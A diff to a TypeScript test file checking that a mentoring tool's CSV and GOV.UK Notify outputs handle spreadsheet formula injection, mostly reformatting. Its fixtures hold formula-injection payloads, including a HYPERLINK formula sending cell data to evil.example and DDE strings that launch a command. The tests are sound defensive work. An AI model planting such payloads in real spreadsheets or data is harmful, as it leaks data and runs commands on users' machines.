@@ -12,9 +12,9 @@ import { csvText, sampleRows, withCell, type Rows } from './fixtures.js';
 
 const hostile = {
   'first name': '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  'last name': '+cmd|\' /C calc\'!A0',
+  'last name': "+cmd|' /C calc'!A0",
   'job title': '-2+3',
-  biography: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  biography: "@SUM(1+1)*cmd|' /C calc'!A0",
 };
 const tab = '\t=1+1';
 const carriageReturn = '\r=2+2';
@@ -51,7 +51,10 @@ describe('formula injection in the CLI results', () => {
   });
 
   it('CSV cells read back with unescapeFormulas are the participants’ text, unchanged', () => {
-    const table = readCsv(readFileSync(join(cwd, 'csv', 'mentors.csv')), { source: 'mentors.csv', unescapeFormulas: true });
+    const table = readCsv(readFileSync(join(cwd, 'csv', 'mentors.csv')), {
+      source: 'mentors.csv',
+      unescapeFormulas: true,
+    });
     expect(new Set(table.rows.flat()).has(hostile['first name'])).toBe(true);
     // Each match's job title and biography are in the mail merge (mentors.csv names them only), as
     // the messages carry them: trimmed, so the tab and carriage return in front are gone.
@@ -64,13 +67,17 @@ describe('formula injection in the CLI results', () => {
       expect(cells.has(value), JSON.stringify(value)).toBe(true);
     }
     const pairs = readCsv(readFileSync(join(cwd, 'csv', 'pairs.csv')), { source: 'pairs.csv', unescapeFormulas: true });
-    expect(pairs.rows.flat().some((cell) => typeof cell === 'string' && cell.includes(hostile['first name']))).toBe(true);
+    expect(pairs.rows.flat().some((cell) => typeof cell === 'string' && cell.includes(hostile['first name']))).toBe(
+      true,
+    );
   });
 
   it('GOV.UK Notify upload lists carry the participants’ text as typed, with no added quote', () => {
     const files = readdirSync(join(cwd, 'csv')).filter((f) => f.startsWith('notify-') && f.endsWith('.csv'));
     expect(files).toHaveLength(4);
-    const cells = new Set(files.flatMap((file) => readCsv(readFileSync(join(cwd, 'csv', file)), { source: file }).rows.flat()));
+    const cells = new Set(
+      files.flatMap((file) => readCsv(readFileSync(join(cwd, 'csv', file)), { source: file }).rows.flat()),
+    );
     const texts = [...cells].filter((cell): cell is string => typeof cell === 'string');
     expect(texts.some((cell) => cell.includes(hostile['first name']))).toBe(true);
     expect(texts.some((cell) => cell.startsWith("'"))).toBe(false);
